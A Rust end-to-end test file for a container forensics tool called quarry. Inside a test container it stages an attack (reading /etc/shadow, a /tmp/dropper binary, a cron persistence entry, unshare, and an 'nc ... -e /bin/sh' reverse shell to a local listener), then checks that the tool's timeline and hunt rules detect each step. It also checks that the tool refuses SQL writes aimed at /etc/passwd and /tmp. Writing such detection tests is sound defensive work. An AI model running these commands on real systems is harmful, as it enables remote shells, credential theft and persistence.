//! End to end: a scripted attack inside a real runc container is recorded by the real
//! recorder; `quarry timeline` tells its steps in order, `quarry hunt` raises the matching
//! findings, a benign container next to it raises none, and the HTML report renders in
//! headless Chromium.

// A test fails by panicking: unwrap is how it says what went wrong.
#![allow(clippy::unwrap_used)]

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::time::Duration;

use common::containers::{RuncContainer, TestNet};
use common::{RecorderProcess, quarry, require_root};
use nix::sys::signal::Signal;

fn json(store: &Path, args: &[&str]) -> (i32, serde_json::Value) {
    let out = quarry()
        .args(args)
        .arg("--store")
        .arg(store)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let code = out.status.code().unwrap_or(-1);
    let value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{args:?}: {e}; stdout {} stderr {}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (code, value)
}

#[test]
fn recorded_attack_is_told_in_order_and_hunted() {
    if !require_root() {
        return;
    }
    let pid = std::process::id();
    let net = TestNet::new("q");
    let attacked = format!("qt-attack-{pid}");
    let benign = format!("qt-benign-{pid}");
    let victim = RuncContainer::start_tweaked(&attacked, Some(&net.netns), |config, rootfs| {
        config["root"]["readonly"] = false.into();
        std::fs::write(
            rootfs.join("etc/shadow"),
            "root:$6$salt$hash:19000:0:99999:7:::\n",
        )
        .unwrap();
    });
    let quiet = RuncContainer::start_tweaked(&benign, None, |config, _| {
        config["root"]["readonly"] = false.into();
    });

    // The attacker's listener: on the host end of the container's own test veth.
    let listener = TcpListener::bind((net.host.as_str(), 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let catcher = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        conn.set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        conn.write_all(b"echo owned-by-test\nexit\n").unwrap();
        let mut answer = String::new();
        let _ = conn.read_to_string(&mut answer);
        answer
    });

    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let rec = RecorderProcess::start(&store, &["--seal-interval", "1s"]);

    // Benign work in the other container: no shells, no writes outside /tmp.
    quiet.exec(&["/bin/ls", "/tmp"]);
    quiet.exec(&["/bin/cat", "/proc/self/status"]);

    // The attack, one step at a time so each is a distinct moment.
    let steps: &[&[&str]] = &[
        &["/bin/sh", "-c", "/bin/cat /etc/shadow > /dev/null"],
        &[
            "/bin/sh",
            "-c",
            "/bin/cp /bin/busybox /tmp/dropper; /tmp/dropper true",
        ],
        &[
            "/bin/sh",
            "-c",
            "/bin/mkdir -p /etc/crontabs; echo '* * * * * /tmp/dropper' > /etc/crontabs/root",
        ],
        &["/bin/unshare", "-m", "/bin/true"],
    ];
    for step in steps {
        victim.exec(step);
        std::thread::sleep(Duration::from_millis(50));
    }
    let reverse = format!("/bin/nc {} {port} -e /bin/sh", net.host);
    victim.exec(&["/bin/sh", "-c", &reverse]);
    let answer = catcher.join().unwrap();
    assert!(
        answer.contains("owned-by-test"),
        "the reverse shell answered: {answer:?}"
    );
    quiet.exec(&["/bin/ls", "/"]);

    let out = rec.stop_with(Signal::SIGINT);
    assert!(out.status.success(), "{out:?}");

    // The timeline tells the attack in order.
    let (code, timeline) = json(&store, &["timeline", &attacked]);
    assert_eq!(code, 0, "{timeline}");
    let events = timeline["events"].as_array().unwrap();
    let position = |what: &dyn Fn(&serde_json::Value) -> bool, name: &str| {
        events
            .iter()
            .position(what)
            .unwrap_or_else(|| panic!("timeline has no {name}: {timeline:#}"))
    };
    let summary = |e: &serde_json::Value, needle: &str| {
        e["summary"].as_str().unwrap_or_default().contains(needle)
    };
    let read_shadow = position(
        &|e| e["source"] == "file" && summary(e, "open /etc/shadow"),
        "read of /etc/shadow",
    );
    let dropped = position(
        &|e| e["source"] == "file" && summary(e, "/tmp/dropper"),
        "write of /tmp/dropper",
    );
    let ran_dropped = position(
        &|e| e["event"] == "exec" && summary(e, "exec /tmp/dropper"),
        "exec of /tmp/dropper",
    );
    let cron = position(
        &|e| e["source"] == "file" && summary(e, "/etc/crontabs/root"),
        "cron write",
    );
    let unshare = position(&|e| e["event"] == "unshare", "unshare");
    let connect = position(
        &|e| e["source"] == "net" && e["event"] == "connect" && summary(e, &net.host),
        "connect to the listener",
    );
    assert!(
        read_shadow < dropped
            && dropped < ran_dropped
            && ran_dropped < cron
            && cron < unshare
            && unshare < connect,
        "steps out of order: {read_shadow} {dropped} {ran_dropped} {cron} {unshare} {connect}"
    );
    // The benign container's steps are not in this story.
    assert!(!events.iter().any(|e| summary(e, "/bin/ls")));
    // The process tree has the attack's shells.
    let tree = timeline["processes"].to_string();
    assert!(
        tree.contains("/tmp/dropper") && tree.contains("/bin/cat"),
        "{tree}"
    );

    // The hunt raises the matching findings, each pointing at its row.
    let (code, findings) = json(&store, &["hunt", "--container", &attacked]);
    assert_eq!(code, 4, "findings exit with 4: {findings:#}");
    let rules: std::collections::BTreeSet<&str> = findings
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    for (rule, what) in [
        ("QH001", "shell spawned"),
        ("QH002", "drift"),
        ("QH003", "reverse shell"),
        ("QH004", "sensitive read"),
        ("QH005", "write below /etc"),
        ("QH006", "persistence"),
        ("QH008", "escape signal"),
        ("QH009", "network tool"),
    ] {
        assert!(rules.contains(rule), "no {rule} ({what}) in {findings:#}");
    }
    for f in findings.as_array().unwrap() {
        assert!(
            f["source_table"].is_string() && f["ktime_ns"].is_u64(),
            "{f}"
        );
        assert_eq!(f["container_id"], attacked.as_str());
    }

    // Nothing on the benign container.
    let (code, benign_findings) = json(&store, &["hunt", "--container", &benign]);
    assert_eq!(
        code, 0,
        "benign workload raised findings: {benign_findings:#}"
    );
    assert_eq!(benign_findings.as_array().unwrap().len(), 0);
    let findings_of_attacked = findings;

    // The HTML report: one file that a browser renders with the steps.
    let html = dir.path().join("timeline.html");
    let out = quarry()
        .args(["timeline", &attacked, "--format", "html", "-o"])
        .arg(&html)
        .arg("--store")
        .arg(&store)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(
        !page.contains("src=\"http") && !page.contains("href=\"http"),
        "no fetches"
    );
    let dom = render_in_chromium(&html, "");
    // The policy allows no inline code: the script ran and the style sheet applied because
    // their hashes are in it.
    assert!(
        dom.contains("data-rendered=\"yes\""),
        "the page's script ran"
    );
    assert!(
        dom.contains("data-styled=\"yes\""),
        "the style sheet applied"
    );
    for needle in [
        "/etc/shadow",
        "/tmp/dropper",
        "/etc/crontabs/root",
        "unshare",
    ] {
        assert!(dom.contains(needle), "rendered page lacks {needle}");
    }
    // The findings the hunt above reported are on the page, each linked to its step, and the
    // step is marked.
    for f in findings_of_attacked.as_array().unwrap() {
        let rule = f["rule"].as_str().unwrap();
        assert!(
            dom.contains(&format!(">{rule}</a>")),
            "{rule} not on the page"
        );
    }
    assert!(dom.contains("class=\"step flagged sev-"), "no step marked");
    assert!(
        dom.contains("<details open=\"\">"),
        "the process tree folds"
    );
    // The filter box filters: `#filter=` in the address fills it.
    let filtered = render_in_chromium(&html, "#filter=shadow");
    let rows: Vec<&str> = filtered
        .lines()
        .filter(|l| l.contains("<tr id=\"step-"))
        .collect();
    assert!(
        rows.iter()
            .any(|r| r.contains("shadow") && !r.contains("hidden"))
    );
    assert!(
        rows.iter()
            .filter(|r| !r.contains("shadow"))
            .all(|r| r.contains("hidden")),
        "rows without the text are shown"
    );
    assert!(filtered.contains(" steps shown"));
    // And what a responder sees is not a blank page.
    let shot = screenshot_in_chromium(&html, dir.path());
    assert!(
        distinct_colours(&shot) > 8,
        "the screenshot is (nearly) blank"
    );
    // Never overwrite: a second run to the same file is refused.
    let out = quarry()
        .args(["timeline", &attacked, "--format", "html", "-o"])
        .arg(&html)
        .arg("--store")
        .arg(&store)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("must not exist"));
}

/// Debian's headless Chromium with a profile of its own, told to do `what` with `page`.
fn chromium(page: &Path, fragment: &str, what: &[String]) -> std::process::Output {
    let profile = tempfile::tempdir().unwrap();
    let out = std::process::Command::new("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-dev-shm-usage",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args(what)
        .arg(format!("file://{}{fragment}", page.display()))
        .output()
        .expect("chromium (scripts/setup installs it)");
    assert!(out.status.success(), "chromium: {out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("Uncaught"), "script errors: {stderr}");
    assert!(
        !stderr.contains("Content Security Policy"),
        "the page broke its own policy: {stderr}"
    );
    out
}

/// The DOM after scripts ran.
fn render_in_chromium(page: &Path, fragment: &str) -> String {
    let out = chromium(page, fragment, &["--dump-dom".to_string()]);
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A screenshot of the page's first screen, as RGBA pixels.
fn screenshot_in_chromium(page: &Path, dir: &Path) -> Vec<u8> {
    let png = dir.join("timeline.png");
    chromium(
        page,
        "",
        &[
            "--window-size=1280,1600".to_string(),
            format!("--screenshot={}", png.display()),
        ],
    );
    let decoder = png::Decoder::new(std::io::BufReader::new(std::fs::File::open(&png).unwrap()));
    let mut reader = decoder.read_info().unwrap();
    let mut pixels = vec![0; reader.output_buffer_size()];
    let info = reader.next_frame(&mut pixels).unwrap();
    pixels.truncate(info.buffer_size());
    pixels
}

/// How many different colours (of 4-byte pixels, ignoring alpha) an image has.
fn distinct_colours(pixels: &[u8]) -> usize {
    let mut seen = std::collections::HashSet::new();
    for px in pixels.chunks(4) {
        seen.insert((px[0], px.get(1).copied(), px.get(2).copied()));
    }
    seen.len()
}

#[test]
fn sql_refuses_writes_and_reads_a_recorded_store() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let marker = common::marker("sql");
    let rec = RecorderProcess::start(&store, &["--seal-interval", "1s"]);
    // A shell that forks (the `; exit` keeps it from exec'ing in place) so the marker's
    // process has a recorded parent.
    std::process::Command::new("/bin/sh")
        .args(["-c", &format!("/bin/true {marker}; exit 0")])
        .status()
        .unwrap();
    let out = rec.stop_with(Signal::SIGINT);
    assert!(out.status.success(), "{out:?}");

    let query = format!(
        "SELECT pid, image, parent_image FROM processes \
         WHERE image = '/bin/true' AND array_to_string(argv, ' ') LIKE '%{marker}%'"
    );
    let (code, rows) = json(&store, &["sql", &query]);
    assert_eq!(code, 0);
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0]["image"], "/bin/true");
    assert_eq!(rows[0]["parent_image"], "/bin/sh", "lineage: {rows:?}");

    for refused in [
        "COPY (SELECT * FROM process) TO '/tmp/quarry-e2e-copy.csv'",
        "CREATE EXTERNAL TABLE p STORED AS CSV LOCATION '/etc/passwd'",
        "DROP TABLE process",
    ] {
        let out = quarry()
            .args(["sql", refused, "--store"])
            .arg(&store)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{refused}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("read-only"), "{refused}: {stderr}");
    }
    assert!(!Path::new("/tmp/quarry-e2e-copy.csv").exists());

    let out = quarry()
        .args(["sql", "SELEC nonsense", "--store"])
        .arg(&store)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not valid SQL"));
}
